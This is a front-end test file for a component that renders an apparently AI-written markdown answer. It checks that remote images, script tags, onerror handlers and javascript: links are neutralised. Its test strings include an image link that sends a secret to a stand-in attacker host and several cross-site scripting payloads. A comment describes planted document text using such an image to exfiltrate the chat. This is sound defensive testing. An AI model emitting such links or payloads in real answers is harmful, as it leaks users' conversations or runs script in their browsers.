import { describe, expect, it } from 'vitest';
import { screen } from '@testing-library/react';
import { renderWithProviders } from '../../../lib/render-with-providers';
import { MarkdownAnswer } from './markdown-answer';

describe('MarkdownAnswer', () => {
  it('shows markdown as headings, lists and links', () => {
    renderWithProviders(<MarkdownAnswer text={'## Fix Outlook\n\n1. Close Outlook\n2. Run **outlook /safe**\n\n[Guide](https://example.com/guide)'} />);
    expect(screen.getByRole('heading', { name: 'Fix Outlook' })).toBeInTheDocument();
    expect(screen.getAllByRole('listitem')).toHaveLength(2);
    expect(screen.getByRole('link', { name: 'Guide' })).toHaveAttribute('href', 'https://example.com/guide');
    expect(screen.getByRole('link', { name: 'Guide' })).toHaveAttribute('rel', 'noopener noreferrer');
    expect(screen.getByRole('link', { name: 'Guide' })).toHaveAttribute('target', '_blank');
  });

  // Review s29 #4: a remote image loaded itself, so text planted in an uploaded document could send the chat to any address.
  it('shows an image as its alt text and never loads it', () => {
    const { container } = renderWithProviders(<MarkdownAnswer text={'Done ![printer diagram](https://evil.example/p.png?u=secret) here'} />);
    expect(container.querySelector('img')).toBeNull();
    expect(container).toHaveTextContent('Done printer diagram here');
    expect(container.innerHTML).not.toContain('evil.example');
  });

  it('never turns answer text into script, event handlers or javascript: links', () => {
    const { container } = renderWithProviders(
      <MarkdownAnswer text={'<script>window.hacked = 1</script><img src=x onerror="window.hacked=1">\n\n[click](javascript:alert(1))'} />,
    );
    expect(container.querySelector('script')).toBeNull();
    expect(container.querySelector('img')).toBeNull();
    expect(container.querySelector('[onerror]')).toBeNull();
    const link = screen.queryByRole('link', { name: 'click' });
    expect(link?.getAttribute('href') ?? '').not.toMatch(/javascript:/i);
    expect((window as unknown as { hacked?: number }).hacked).toBeUndefined();
  });
});
